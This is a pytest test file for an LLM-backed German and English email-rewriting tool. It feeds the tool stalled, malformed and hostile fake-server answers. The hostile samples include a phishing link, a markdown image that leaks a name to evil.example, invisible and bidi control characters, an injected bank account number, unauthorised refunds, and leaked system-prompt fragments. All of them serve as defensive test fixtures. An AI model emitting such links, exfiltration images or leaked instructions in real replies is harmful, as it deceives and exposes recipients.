"""The LLM path against hostile, sloppy, slow and half-broken servers: nothing reaches the user as `mode: llm`
that says what the draft does not, nothing waits past COACH_LLM_TIMEOUT + 2 s, every notice is true."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator

import openai  # noqa: F401 - imported once here: the times measured are the deadline's, not the first import's
import pytest
from helpers import letter_from, sent_draft
from llm_server import FakeLLMServer, Reply

from coach.api import Coach
from coach.llm.client import forget_formats
from coach.models import RewriteResult, StreamReset

TIMEOUT = 2.0
DRAFT = (
    "Sehr geehrte Frau Vogt,\n\n"
    "kein Problem, ich habe den Auftrag storniert. Passt Ihnen ein Anruf am Donnerstag um 10 Uhr?\n\n"
    "Mit freundlichen Grüßen\nPeter Kraus\n"
)
CLIENT = "Hallo Herr Kraus, gestern ist unser größter Kunde abgesprungen, wir müssen kündigen. Miriam Vogt"
BODY = (
    "ich kann gut nachvollziehen, wie sehr Sie der Verlust Ihres größten Kunden gerade beschäftigt. "
    "Über unsere Zusammenarbeit können wir gern später sprechen. Zunächst möchte ich mich mit Ihnen "
    "zusammensetzen und einen konkreten Plan erarbeiten, wie Sie gut durch diese Zeit kommen. "
    "Passt Ihnen ein Anruf am Donnerstag um 10 Uhr?"
)
DRAFT_EN = "Dear Anna,\n\nno problem, I have cancelled the project.\n\nKind regards,\nTom\n"
CLIENT_EN = "Hi Tom, our biggest customer just left and we have to cancel. Sorry, Anna"
BODY_EN = (
    "I can really understand how hard it is to lose your biggest customer so suddenly. We can talk about our "
    "collaboration later, there is no need to decide that now. First I would like to sit down with you and work "
    "out a concrete plan for how you get through this time."
)


def answer(reply: str) -> str:
    return json.dumps({"reply": reply, "changes": [{"what": "x", "why": "y", "sources": []}]}, ensure_ascii=False)


def letter(request: dict, body: str) -> Reply:
    return Reply.content(answer(letter_from(request, body)), chunk_size=16)


@pytest.fixture(scope="module")
def _server() -> Iterator[FakeLLMServer]:
    with FakeLLMServer() as srv:
        yield srv


@pytest.fixture()
def server(_server: FakeLLMServer, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeLLMServer]:
    forget_formats()
    _server.reset()
    _server.default = lambda r: letter(r, BODY)
    monkeypatch.setenv("OPENAI_BASE_URL", _server.base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    monkeypatch.setenv("COACH_LLM_TIMEOUT", str(TIMEOUT))
    yield _server
    assert _server.errors == []
    forget_formats()


_coaches: dict[tuple[str | None, ...], Coach] = {}


def make_coach() -> Coach:
    """One Coach per endpoint and timeout (settings are read once per Coach), shared by the tests."""
    key = (os.environ.get("OPENAI_BASE_URL"), os.environ.get("COACH_LLM_TIMEOUT"))
    if key not in _coaches:
        coach = Coach()
        coach.rewriter.disable_retrieval("not needed here")
        coach.rewriter.rules_rewriter()
        _coaches[key] = coach
    return _coaches[key]


def run(draft: str = DRAFT, client: str = CLIENT, *, stream: bool = False) -> tuple[RewriteResult, float, list]:
    coach = make_coach()  # warm: the time measured is the LLM part and the fallback
    t = time.monotonic()
    if stream:
        items = list(coach.rewrite_stream(draft, client))
        result = items[-1]
    else:
        items = []
        result = coach.rewrite(draft, client)
    assert isinstance(result, RewriteResult)
    return result, time.monotonic() - t, items


def codes(r: RewriteResult) -> set[str]:
    return {n.code for n in r.notices}


# ---------------------------------------------------------------- the good path still works
def test_a_good_answer_is_accepted(server: FakeLLMServer) -> None:
    r, _, _ = run()
    assert r.mode == "llm", r.notices


# ---------------------------------------------------------------- slow, stalled, trickled servers
SLOW = {
    "silence": lambda r: Reply.delay(30, letter(r, BODY)),
    "half_then_stall": lambda r: Reply.stream_then_hang(answer(letter_from(r, BODY)), 30),
    "half_then_keepalive": lambda r: Reply.keepalive(answer(letter_from(r, BODY)), 30, interval=0.2),
    "trickle": lambda r: Reply.trickle(letter(r, BODY), interval=2.0),  # one byte every two seconds
}


@pytest.mark.parametrize("stream", [False, True], ids=["complete", "stream"])
@pytest.mark.parametrize("kind", list(SLOW))
def test_a_slow_server_falls_back_within_the_deadline(server: FakeLLMServer, kind: str, stream: bool,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COACH_LLM_TIMEOUT", "1")
    server.default = SLOW[kind]
    r, took, items = run(stream=stream)
    assert r.mode == "rules" and "llm_fallback" in codes(r)
    assert took < 1 + 2, f"{kind}: {took:.1f} s"
    if stream and any(isinstance(i, str) for i in items):
        assert isinstance(items[-2], StreamReset)


def test_a_repair_round_that_stalls_ends_at_the_same_deadline(server: FakeLLMServer) -> None:
    server.enqueue(Reply.content(answer(DRAFT.replace("Peter Kraus", "[NAME_1] [NAME_2]"))))
    server.default = lambda r: Reply.delay(30, letter(r, BODY))
    r, took, _ = run()
    assert r.mode == "rules" and took < TIMEOUT + 2


# ---------------------------------------------------------------- format negotiation
LLAMA_CPP_500 = {"error": {"message": "1 validation error: {'loc': ('body', 'response_format', 'type'), 'msg': "
                           "\"Input should be 'text' or 'json_object'\"}", "type": "internal_server_error"}}


@pytest.mark.parametrize("status", [400, 422, 500])
def test_a_server_that_refuses_json_schema_gets_json_mode_and_is_remembered(
        server: FakeLLMServer, status: int) -> None:
    def refuse_schema(request: dict) -> Reply:
        if (request.get("response_format") or {}).get("type") == "json_schema":
            return Reply.status(status, body=LLAMA_CPP_500)
        return letter(request, BODY)

    server.default = refuse_schema
    r, _, _ = run()
    assert r.mode == "llm", r.notices
    formats = [(b.get("response_format") or {}).get("type") for b in server.chat_requests()]
    assert formats == ["json_schema", "json_object"]
    run()  # the next rewrite asks in the format that worked
    assert [(b.get("response_format") or {}).get("type") for b in server.chat_requests()][2:] == ["json_object"]


def test_a_500_that_does_not_name_the_format_is_not_taken_for_one(server: FakeLLMServer) -> None:
    server.default = lambda r: Reply.status(500)
    r, _, _ = run()
    assert r.mode == "rules"
    assert all((b.get("response_format") or {}).get("type") == "json_schema" for b in server.chat_requests())


def test_raw_newlines_in_the_json_answer_are_read(server: FakeLLMServer) -> None:
    server.default = lambda r: Reply.content(answer(letter_from(r, BODY)).replace("\\n", "\n"))
    r, _, _ = run()
    assert r.mode == "llm", r.notices


def test_plain_text_when_neither_json_format_is_supported(monkeypatch: pytest.MonkeyPatch) -> None:
    forget_formats()
    with FakeLLMServer(supports_json_schema=False, supports_json_mode=False,
                       default=lambda r: Reply.content(letter_from(r, BODY))) as srv:
        monkeypatch.setenv("OPENAI_BASE_URL", srv.base_url)
        monkeypatch.setenv("COACH_LLM_TIMEOUT", str(TIMEOUT))
        r, _, items = run(stream=True)
        assert r.mode == "llm", r.notices
        assert "".join(i for i in items if isinstance(i, str)).startswith("Sehr geehrte Frau [NAME_")
    forget_formats()


# ---------------------------------------------------------------- hostile or sloppy answers
def with_body(extra: str, lang: str = "de") -> object:
    body = BODY if lang == "de" else BODY_EN
    return lambda r: letter(r, body + " " + extra)


def whole(fn: object) -> object:
    return lambda r: Reply.content(answer(fn(r)))  # type: ignore[operator]


HOSTILE_DE = {
    "phishing link": with_body("Bitte bestätigen Sie hier: https://evil.example/login"),
    "bare link": with_body("Alles Weitere unter kraus-beratung-hilfe.de/termin."),
    "extra email": with_body("Schreiben Sie mir auch an privat@example.org."),
    "extra phone": with_body("Rufen Sie mich unter 0171 9876543 an."),
    "extra IBAN": with_body("Überweisen Sie bitte an DE89 3704 0044 0532 0130 00."),
    "date in words": with_body("Ich schlage vor, wir treffen uns am ersten März um zehn Uhr."),
    "half price": with_body("Die nächsten Sitzungen biete ich Ihnen zum halben Preis an."),
    "free": with_body("Das nächste Gespräch ist selbstverständlich kostenlos."),
    "refund": with_body("Die Anzahlung erstatte ich Ihnen gern zurück."),
    "raw html": with_body("<b>Wichtig:</b> <a href='https://evil.example'>hier klicken</a>"),
    "markdown image": with_body("![](https://evil.example/l.png?mail=[NAME_1])"),
    "bidi override": with_body("Mit \u202eesonhcS\u202c Grüßen"),
    "ansi escape": with_body("\x1b[31mACHTUNG\x1b[0m"),
    "zero width": with_body("Ich\u200b verstehe\u200b Sie."),
    "second sign-off line": with_body("\n\nHerzliche Grüße\nIhr Team"),
    "wrapped in angle brackets": whole(lambda r: "<" + letter_from(r, BODY) + ">"),
    "the answer-shape example": whole(lambda r: "<the full reply letter>"),
}


def _swap(request: dict) -> Reply:
    text = letter_from(request, BODY)
    draft = sent_draft(request)
    greeting_name = draft.split("Frau ", 1)[1].split(",", 1)[0]  # the client's placeholder
    last = text.rstrip().rsplit("\n", 1)[1]  # the consultant's placeholders
    swapped = text.replace(f"Frau {greeting_name},", f"Frau {last.split()[-1]},")
    swapped = swapped[: swapped.rstrip().rfind("\n") + 1] + greeting_name
    return Reply.content(answer(swapped))


HOSTILE_DE["names swapped"] = _swap


def _second_signature(request: dict) -> Reply:
    signer = letter_from(request, BODY).rstrip().rsplit("\n", 1)[1]
    return letter(request, BODY + f" Viele Grüße, {signer}")


HOSTILE_DE["second signature"] = _second_signature


def _leak(request: dict) -> Reply:
    from coach.llm.prompts import render

    system = render("system.j2", language_name="German", address="Sie").split()
    runs = " ".join(system[40:47]) + " und " + " ".join(system[120:127])
    return letter(request, BODY + " " + runs)


HOSTILE_DE["instructions in short runs"] = _leak


@pytest.mark.parametrize("case", list(HOSTILE_DE))
def test_a_hostile_german_answer_never_reaches_the_user(server: FakeLLMServer, case: str) -> None:
    server.default = HOSTILE_DE[case]
    r, took, _ = run()
    assert r.mode == "rules", f"{case} was accepted"
    assert "llm_fallback" in codes(r) and "llm_repair" in codes(r)
    assert len(server.chat_requests()) == 2  # asked once more, then the rules took over
    assert took < TIMEOUT + 2


HOSTILE_EN = {
    "half price": with_body("I can offer the next sessions at half price.", "en"),
    "free": with_body("The next call is free of charge, of course.", "en"),
    "refund": with_body("I will refund your deposit in full.", "en"),
    "date in words": with_body("Shall we meet on the first of March at ten o'clock?", "en"),
    "different sign-off": whole(lambda r: letter_from(r, BODY_EN).replace("Kind regards", "Best regards")),
}


@pytest.mark.parametrize("case", list(HOSTILE_EN))
def test_a_hostile_english_answer_never_reaches_the_user(server: FakeLLMServer, case: str) -> None:
    server.default = HOSTILE_EN[case]
    r, _, _ = run(DRAFT_EN, CLIENT_EN)
    assert r.mode == "rules", f"{case} was accepted"
    assert "llm_fallback" in codes(r)


def test_a_good_english_answer_is_accepted(server: FakeLLMServer) -> None:
    server.default = lambda r: letter(r, BODY_EN + " Feel free to call me.")
    r, _, _ = run(DRAFT_EN, CLIENT_EN)
    assert r.mode == "llm", r.notices


def test_a_repaired_stream_says_so_before_the_result(server: FakeLLMServer) -> None:
    server.enqueue(Reply.content(answer("kaputt"), chunk_size=3))
    r, _, items = run(stream=True)
    assert r.mode == "llm", r.notices
    assert items[-2] == StreamReset(reason="repair")
    assert "kaputt" not in r.rewrite


# ---------------------------------------------------------------- true notices
def test_an_unreachable_server_sends_nothing_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    monkeypatch.setenv("OPENAI_BASE_URL", f"http://127.0.0.1:{port}/v1")
    monkeypatch.setenv("COACH_LLM_TIMEOUT", str(TIMEOUT))
    r, took, _ = run()
    assert r.mode == "rules"
    assert "llm_nothing_sent" in codes(r) and "redacted" not in codes(r)
    assert took < TIMEOUT + 2


def test_when_something_was_sent_the_redaction_notice_says_what(server: FakeLLMServer) -> None:
    server.default = lambda r: Reply.status(500)
    r, _, _ = run()
    assert r.mode == "rules" and "redacted" in codes(r) and "llm_nothing_sent" not in codes(r)


def test_an_endpoint_that_refuses_max_tokens_is_asked_without_it(server: FakeLLMServer) -> None:
    def refuse(request: dict) -> Reply:
        if "max_tokens" in request:
            return Reply.status(400, message="Unsupported parameter: 'max_tokens' is not supported with this "
                                             "model. Use 'max_completion_tokens' instead.")
        return letter(request, BODY)

    server.default = refuse
    r, _, _ = run()
    assert r.mode == "llm", r.notices
    sent = server.chat_requests()
    assert [("max_tokens" in b, b["response_format"]["type"]) for b in sent] == [
        (True, "json_schema"), (False, "json_schema")]


@pytest.mark.parametrize("stream", [False, True], ids=["complete", "stream"])
def test_an_answer_cut_off_at_the_token_cap_says_so(server: FakeLLMServer, stream: bool) -> None:
    server.default = lambda r: Reply.content(answer(letter_from(r, BODY))[:200], finish_reason="length")
    r, _, _ = run(stream=stream)
    assert r.mode == "rules"
    assert any(n.code == "llm_fallback" and "cut off" in n.text for n in r.notices)
